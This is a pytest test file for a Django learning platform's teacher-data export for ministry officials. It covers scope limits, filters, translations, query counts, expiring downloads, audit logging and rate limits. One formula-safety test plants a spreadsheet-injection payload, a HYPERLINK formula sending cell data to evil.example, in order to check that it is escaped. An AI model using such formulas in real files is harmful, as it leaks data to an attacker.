"""Exports for ministries: a CSV or XLSX of the teachers in the official's scope (never anyone else's), with their
competencies, certificates, completions and sessions, filtered as on the dashboard, made in the background with
progress, downloaded by her only for 24 hours, written to the audit log, rate-limited, formula-safe, in her
language, and read in a fixed number of queries whatever the number of teachers."""

from __future__ import annotations

import csv
import io
import os
import time
import uuid
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from accounts.models import AuditEntry, Country, Institution, Region, RoleGrant, User
from accounts.selectors import scope_for
from core.exports import write_xlsx
from core.job_files import JOB_FILES_DIRECTORY
from core.models import Job
from core.tasks import purge_finished_jobs
from lms.competencies.models import Competency
from lms.courses import services as course_services
from lms.courses.models import Activity, Course, Enrollment
from lms.reports import exports
from lms.reports.filters import ReportFilters
from tests.certificates.test_pages import make_certificate, signed_in, text
from tests.factories.accounts import UserFactory
from tests.factories.roles import ministry_official, superuser
from tests.factories.roles import trainer as make_trainer
from tests.factories.webinars import EventFactory, SessionFactory
from webinars.models import Attendance

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 6, 15, 10, 0, tzinfo=UTC)


def url(name: str, language: str = "en", **kwargs) -> str:
    with translation.override(language):
        return reverse(f"reports:{name}", kwargs=kwargs)


@pytest.fixture
def egypt() -> Country:
    return Country.objects.get(code="EG")


@pytest.fixture
def tunisia() -> Country:
    return Country.objects.get(code="TN")


# Factories of what a teacher has done -----------------------------------------------------------------------------


def teacher(country: Country, region: Region | None = None, **fields) -> User:
    return UserFactory(country=country, region=region, **fields)


def completion(user: User, course: Course, *, at: datetime = NOW) -> Enrollment:
    return Enrollment.objects.create(
        user=user,
        course=course,
        status=Enrollment.Status.COMPLETED,
        completed_at=at,
        country=user.country,
        region=user.region,
    )


def certificate(user: User, *, at: datetime = NOW, course: Course | None = None, **fields):
    """A certificate issued at ``at`` where she lives (unless ``country`` says otherwise), for ``course``."""
    fields.setdefault("country", user.country)
    fields.setdefault("region", user.region)
    certificate = make_certificate(user, issued_at=at, snapshot={"issued_on": ""}, **fields)
    if course is not None:
        type(certificate).objects.filter(pk=certificate.pk).update(subject_key=course.subject_key)
    return certificate


def attended(user: User, *, at: datetime = NOW, title: str = "Digital classroom webinar", course: Course | None = None):
    session = SessionFactory(event=EventFactory(title=title), starts_at=at, ends_at=at + timedelta(hours=1))
    if course is not None:
        step = Activity.objects.create(course=course, translation_key=uuid.uuid4(), kind=Activity.Kind.SESSION)
        step.sessions.add(session)
    return Attendance.objects.create(session=session, user=user)


def course_with_cells(title: str, *cells: tuple[int, int]) -> Course:
    course = course_services.course_create(title=title)
    for aspect, level in cells:
        course.competencies.add(Competency.objects.get(aspect=aspect, level=level))
    return course


def busy_teacher(country: Country, region: Region | None = None, **fields) -> User:
    """A teacher with a certificate, a completed course (two ICT CFT cells) and a session attended."""
    user = teacher(country, region, **fields)
    course = course_with_cells(f"Course of {user.full_name}", (3, 1), (1, 2))
    completion(user, course)
    certificate(user, course=course)
    attended(user)
    return user


# Asking for an export and reading the file -------------------------------------------------------------------------


def export(client: Client, captured, *, file_format: str = "csv", page_language: str = "en", **filters) -> Job:
    """Ask for an export from the exports page (filters in the query string) and let the job run."""
    before = set(Job.objects.filter(task_name=exports.EXPORT_TASK).values_list("pk", flat=True))
    query = "&".join(f"{key}={value}" for key, value in filters.items())
    with captured(execute=True):
        response = client.post(f"{url('exports', page_language)}?{query}", {"format": file_format})
    assert response.status_code == 302, text(response)
    job = Job.objects.filter(task_name=exports.EXPORT_TASK).exclude(pk__in=before).get()
    with translation.override(page_language):
        assert response["Location"] == reverse("core:job-detail", args=[job.pk])
    job.refresh_from_db()
    assert job.status == Job.Status.DONE, job.error
    return job


def download(client: Client, job: Job):
    return client.get(url("export-file", job_id=job.pk))


def rows_of(client: Client, job: Job) -> list[list]:
    """The file's rows, header first, parsed back with csv or openpyxl."""
    response = download(client, job)
    assert response.status_code == 200, response
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content)
    if job.result["format"] == "csv":
        assert response["Content-Type"].startswith("text/csv")
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    rows = []
    for sheet in workbook.worksheets:
        for number, row in enumerate(sheet.iter_rows(values_only=True)):
            if number or not rows:  # each sheet repeats the header
                rows.append(["" if value is None else value for value in row])
    return rows


def names(rows: list[list]) -> set[str]:
    return {row[1] for row in rows[1:]}


def by_name(rows: list[list]) -> dict[str, dict[str, object]]:
    header = rows[0]
    return {row[1]: dict(zip(header, row, strict=True)) for row in rows[1:]}


# Scope ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_official_gets_exactly_the_teachers_of_her_country(
    django_capture_on_commit_callbacks, egypt, tunisia, file_format
):
    school = Institution.objects.create(country=egypt, name="Giza Experimental School")
    amina = busy_teacher(egypt, full_name="Amina Yusuf", national_teacher_id="EG-7781", institution=school)
    teacher(egypt, full_name="Omar Idle")
    busy_teacher(tunisia, full_name="Leila Ben Ali")
    # Her certificate earned while she lived in Tunisia is outside the Egyptian official's scope.
    certificate(amina, country=tunisia)
    official = signed_in(ministry_official(country=egypt))

    rows = rows_of(official, export(official, django_capture_on_commit_callbacks, file_format=file_format))

    assert names(rows) == {"Amina Yusuf", "Omar Idle"}
    row = by_name(rows)["Amina Yusuf"]
    values = list(row.values())
    assert values[0] in (amina.pk, str(amina.pk))
    assert values[2:6] == ["EG-7781", "Egypt", "", "Giza Experimental School"]
    assert values[7] == "1.2, 3.1"
    assert values[8] in (1, "1") and values[10] in (1, "1") and values[12] in (1, "1")
    code = amina.certificates.filter(country=egypt).get().code
    assert code[:4] in values[9] and "2026-06-15" in values[9] and "Valid" in values[9]
    assert values[11] == "Course of Amina Yusuf · 2026-06-15"
    assert values[13] == "Digital classroom webinar · 2026-06-15"
    omar = by_name(rows)["Omar Idle"]
    assert [omar[key] for key in rows[0][7:]] in (["", 0, "", 0, "", 0, ""], ["", "0", "", "0", "", "0", ""])


def test_a_regional_official_gets_only_her_region(django_capture_on_commit_callbacks, egypt):
    cairo = Region.objects.create(country=egypt, name="Cairo")
    giza = Region.objects.create(country=egypt, name="Giza")
    busy_teacher(egypt, cairo, full_name="Teacher In Cairo")
    busy_teacher(egypt, giza, full_name="Teacher In Giza")
    teacher(egypt, full_name="Teacher Without Region")
    account = ministry_official(country=egypt, region=cairo)
    official = signed_in(account)

    rows = rows_of(official, export(official, django_capture_on_commit_callbacks, file_format="xlsx"))
    assert names(rows) == {"Teacher In Cairo"}

    # A region outside her scope is refused by the form, and could reach nothing anyway.
    response = official.get(url("exports"), {"region": giza.pk})
    assert response.status_code == 400
    assert list(exports.export_rows(scope_for(account), ReportFilters(region_id=giza.pk))) == []


@pytest.mark.parametrize("who", ["learner", "trainer"])
def test_nobody_without_a_scope_exports(who, egypt):
    client = signed_in(UserFactory() if who == "learner" else make_trainer())
    assert client.get(url("exports")).status_code == 403
    assert client.post(url("exports"), {"format": "csv"}).status_code == 403
    assert not Job.objects.filter(task_name=exports.EXPORT_TASK).exists()
    anonymous = Client().get(url("exports"))
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]


def test_the_task_reads_her_scope_again(django_capture_on_commit_callbacks, egypt):
    teacher(egypt)
    official = ministry_official(country=egypt)
    with django_capture_on_commit_callbacks() as callbacks:
        signed_in(official).post(url("exports"), {"format": "csv"})
    RoleGrant.objects.filter(user=official).delete()  # her role is taken away before the job runs
    for callback in callbacks:
        callback()
    job = Job.objects.get(task_name=exports.EXPORT_TASK)
    assert job.status == Job.Status.FAILED and not job.result.get("file")


# Filters ----------------------------------------------------------------------------------------------------------


def test_the_filters_narrow_teachers_and_what_is_counted(django_capture_on_commit_callbacks, egypt):
    cairo = Region.objects.create(country=egypt, name="Cairo")
    course = course_with_cells("Assessment with digital tools", (2, 1))
    other = course_with_cells("Other course", (4, 2))
    early = datetime(2026, 1, 10, tzinfo=UTC)
    late = datetime(2026, 9, 10, tzinfo=UTC)

    amina = teacher(egypt, cairo, full_name="Amina", preferred_language="ar")
    completion(amina, course, at=early)
    certificate(amina, course=course, at=early)
    attended(amina, at=early, title="In the course", course=course)
    completion(amina, other, at=late)
    certificate(amina, course=other, at=late)
    attended(amina, at=late, title="Later webinar")
    fatma = teacher(egypt, full_name="Fatma", preferred_language="en")
    completion(fatma, other, at=early)

    client = signed_in(superuser())
    captured = django_capture_on_commit_callbacks

    rows = by_name(rows_of(client, export(client, captured, period_from="2026-01", period_to="2026-03")))
    assert set(rows) >= {"Amina", "Fatma"}
    values = list(rows["Amina"].values())
    assert values[8:] == ["1", values[9], "1", "Assessment with digital tools · 2026-01-10", "1", values[13]]
    assert "In the course" in values[13] and "Later webinar" not in values[13]
    assert values[7] == "2.1"  # reached by the end of March; 4.2 came in September

    assert names(rows_of(client, export(client, captured, region=cairo.pk))) == {"Amina"}
    assert "Fatma" in names(rows_of(client, export(client, captured, language="en")))
    assert "Amina" not in names(rows_of(client, export(client, captured, language="en")))

    rows = by_name(rows_of(client, export(client, captured, course=course.pk)))
    assert set(rows) == {"Amina"}
    values = list(rows["Amina"].values())
    assert values[10:] == ["1", "Assessment with digital tools · 2026-01-10", "1", "In the course · 2026-01-10"]
    assert values[8] == "1" and "2026-01-10" in values[9]
    assert values[7] == "2.1, 4.2"  # her profile, whatever the course filter


def test_invalid_filters_are_explained_and_kept_and_start_nothing(egypt, tunisia):
    elsewhere = Region.objects.create(country=tunisia, name="Sfax")
    client = signed_in(ministry_official(country=egypt))
    query = {"period_from": "2026-13", "period_to": "2025-01", "region": elsewhere.pk, "language": "xx"}

    response = client.get(url("exports"), query)
    assert response.status_code == 400
    page = text(response)
    assert "Enter a month as YYYY-MM, for example 2026-09." in page
    assert 'value="2026-13"' in page and 'value="2025-01"' in page
    # The region outside her scope, the unknown language: each next to its field and in the summary at the top.
    assert page.count("Select a valid choice.") == 4
    assert 'role="alert"' in page

    response = client.post(url("exports") + "?period_from=2026-05&period_to=2026-02", {"format": "csv"})
    assert response.status_code == 400
    assert "The end of the period cannot be before its start." in text(response)
    assert client.post(url("exports"), {"format": "pdf"}).status_code == 400
    assert not Job.objects.filter(task_name=exports.EXPORT_TASK).exists()
    assert not AuditEntry.objects.filter(action="reports.export").exists()


def test_the_errors_are_in_russian(egypt):
    client = signed_in(ministry_official(country=egypt))
    response = client.get(url("exports", "ru"), {"period_from": "июнь"})
    assert response.status_code == 400
    with translation.override("ru"):
        from lms.reports.filters import MonthField

        assert str(MonthField().error_messages["invalid"]) in text(response)
    assert 'value="июнь"' in text(response)


# The file ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formulas_in_names_are_written_as_text(django_capture_on_commit_callbacks, egypt, file_format):
    teacher(egypt, full_name='=HYPERLINK("https://evil.example/?x="&A1,"Click")', national_teacher_id="+123")
    client = signed_in(superuser())
    rows = rows_of(client, export(client, django_capture_on_commit_callbacks, file_format=file_format))
    row = next(row for row in rows[1:] if "HYPERLINK" in str(row[1]))
    assert row[1] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    assert row[2] == "'+123"


def test_the_headers_are_in_her_language(django_capture_on_commit_callbacks, egypt):
    teacher(egypt, full_name="Amina")
    client = signed_in(superuser())
    rows = rows_of(client, export(client, django_capture_on_commit_callbacks, page_language="ru"))
    with translation.override("ru"):
        assert rows[0] == exports.export_header()
    assert rows[0][1:7] == [
        "Имя",
        "Национальный идентификатор учителя",
        "Страна",
        "Регион",
        "Школа или учреждение",
        "Язык",
    ]
    assert by_name(rows)["Amina"]["Страна"] == "Египет"
    job = Job.objects.get(task_name=exports.EXPORT_TASK)
    assert job.result["url"] == url("export-result", "ru", job_id=job.pk)


def test_the_number_of_queries_does_not_grow_with_the_teachers(egypt):
    """The number of queries does not depend on the number of teachers, nor on what each has done."""
    official = ministry_official(country=egypt)
    scope = scope_for(official)
    busy_teacher(egypt)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            exports.export_build(by=official, file_format="xlsx", filters=ReportFilters(course_id=None))
        return len(captured)

    one = queries()
    for _ in range(29):
        busy_teacher(egypt)
    assert len(list(exports.export_rows(scope, ReportFilters()))) == 30
    assert queries() == one
    with CaptureQueriesContext(connection) as rows_only:
        list(exports.export_rows(scope, ReportFilters(period_from=NOW.date().replace(day=1))))
    assert len(rows_only) == 5  # the teachers, then four for their chunk


def test_chunks_are_read_one_after_the_other_with_progress(egypt):
    for number in range(5):
        teacher(egypt, full_name=f"Teacher {number}")
    scope = scope_for(ministry_official(country=egypt))
    chunks: list[int] = []
    rows = list(exports.export_rows(scope, ReportFilters(), chunk_size=2, on_chunk=chunks.append))
    assert chunks == [2, 4, 5] and len(rows) == 5


def test_a_sheet_that_would_pass_the_excel_limit_goes_on_in_another(tmp_path):
    path = tmp_path / "big.xlsx"
    write_xlsx(path, header=["n"], rows=([number] for number in range(5)), title="Teachers", max_rows=2)
    workbook = openpyxl.load_workbook(path, read_only=True)
    assert workbook.sheetnames == ["Teachers", "Teachers (2)", "Teachers (3)"]
    assert [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in workbook.worksheets] == [
        ["n", 0, 1],
        ["n", 2, 3],
        ["n", 4],
    ]


# The job, the link, the audit log, the rate limit ------------------------------------------------------------------


def test_progress_is_recorded_and_the_job_page_leads_to_the_file(django_capture_on_commit_callbacks, egypt):
    for _ in range(3):
        teacher(egypt)
    owner = ministry_official(country=egypt)
    client = signed_in(owner)
    job = export(client, django_capture_on_commit_callbacks, file_format="xlsx")

    assert job.owner_id == owner.pk and job.progress_done == job.progress_total == 3
    assert job.result["rows"] == 3 and job.label == "Teachers and their certificates, Excel (XLSX)"
    progress = text(client.get(reverse("core:job-detail", args=[job.pk])))
    assert url("export-result", job_id=job.pk) in progress
    result = text(client.get(url("export-result", job_id=job.pk)))
    assert url("export-file", job_id=job.pk) in result and "The file lists 3 teachers." in result
    page = text(client.get(url("exports")))
    assert url("export-file", job_id=job.pk) in page


def test_only_the_owner_downloads_the_file(django_capture_on_commit_callbacks, egypt):
    teacher(egypt)
    owner = signed_in(ministry_official(country=egypt))
    job = export(owner, django_capture_on_commit_callbacks)

    for other in (signed_in(ministry_official(country=egypt)), signed_in(superuser())):
        assert download(other, job).status_code == 404
        assert other.get(url("export-result", job_id=job.pk)).status_code == 404
        assert url("export-file", job_id=job.pk) not in text(other.get(url("exports")))
    anonymous = Client().get(url("export-file", job_id=job.pk))
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    assert download(owner, job).status_code == 200


def test_the_link_expires_after_a_day_and_the_file_is_deleted(django_capture_on_commit_callbacks, egypt):
    teacher(egypt)
    client = signed_in(ministry_official(country=egypt))
    job = export(client, django_capture_on_commit_callbacks)
    name = job.result["file"]
    assert default_storage.exists(name)
    expires_at = datetime.fromisoformat(job.result["expires_at"])
    assert timedelta(hours=23) < expires_at - timezone.now() <= timedelta(hours=24)

    Job.objects.filter(pk=job.pk).update(
        result={**job.result, "expires_at": (timezone.now() - timedelta(seconds=1)).isoformat()}
    )

    assert download(client, job).status_code == 404
    assert not default_storage.exists(name)
    assert "has expired" in text(client.get(url("export-result", job_id=job.pk)))


def test_the_daily_purge_deletes_expired_files(django_capture_on_commit_callbacks, egypt):
    old = default_storage.save(f"{JOB_FILES_DIRECTORY}/old.csv", ContentFile(b"a,b"))
    two_days_ago = time.time() - 2 * 24 * 3600
    os.utime(default_storage.path(old), (two_days_ago, two_days_ago))
    fresh = default_storage.save(f"{JOB_FILES_DIRECTORY}/fresh.csv", ContentFile(b"a,b"))

    assert purge_finished_jobs() >= 1

    assert not default_storage.exists(old) and default_storage.exists(fresh)


def test_each_export_is_in_the_audit_log(django_capture_on_commit_callbacks, egypt):
    teacher(egypt)
    official = ministry_official(country=egypt)
    client = signed_in(official)
    job = export(client, django_capture_on_commit_callbacks, file_format="xlsx", period_from="2026-01")
    entry = AuditEntry.objects.get(action="reports.export")
    assert entry.actor == official
    assert "xlsx" in entry.detail and str(job.pk) in entry.detail and "period_from=2026-01" in entry.detail


def test_exports_are_rate_limited_and_csrf_protected(django_capture_on_commit_callbacks, egypt, settings):
    settings.RATES = {**settings.RATES, "reports-export-user": "2/h"}
    client = signed_in(ministry_official(country=egypt))
    for _ in range(2):
        export(client, django_capture_on_commit_callbacks)
    assert client.post(url("exports"), {"format": "csv"}).status_code == 429
    assert Job.objects.filter(task_name=exports.EXPORT_TASK).count() == 2

    guarded = Client(enforce_csrf_checks=True)
    guarded.force_login(ministry_official(country=egypt))
    assert guarded.post(url("exports"), {"format": "csv"}).status_code == 403


def test_the_page_in_arabic_has_its_form_and_labels(egypt):
    page = text(signed_in(ministry_official(country=egypt)).get(url("exports", "ar")))
    assert 'dir="rtl"' in page
    for field in ("period_from", "period_to", "region", "course", "language"):
        assert f'for="id_{field}"' in page and f'name="{field}"' in page
    assert 'name="csrfmiddlewaretoken"' in page and 'name="format"' in page


def test_the_period_includes_the_whole_last_month_and_survives_the_job_arguments(egypt):
    filters = ReportFilters.from_plain({"period_from": "2026-11", "period_to": "2026-12", "region": ""})
    assert ReportFilters.from_plain(filters.to_plain()) == filters
    amina = teacher(egypt, full_name="Amina")
    certificate(amina, at=datetime(2026, 12, 31, 23, 0, tzinfo=UTC))
    certificate(amina, at=datetime(2027, 1, 1, 0, 0, tzinfo=UTC))
    certificate(amina, at=datetime(2026, 10, 31, 23, 0, tzinfo=UTC))
    (row,) = exports.export_rows(scope_for(ministry_official(country=egypt)), filters)
    assert row[8] == 1 and "2026-12-31" in row[9]
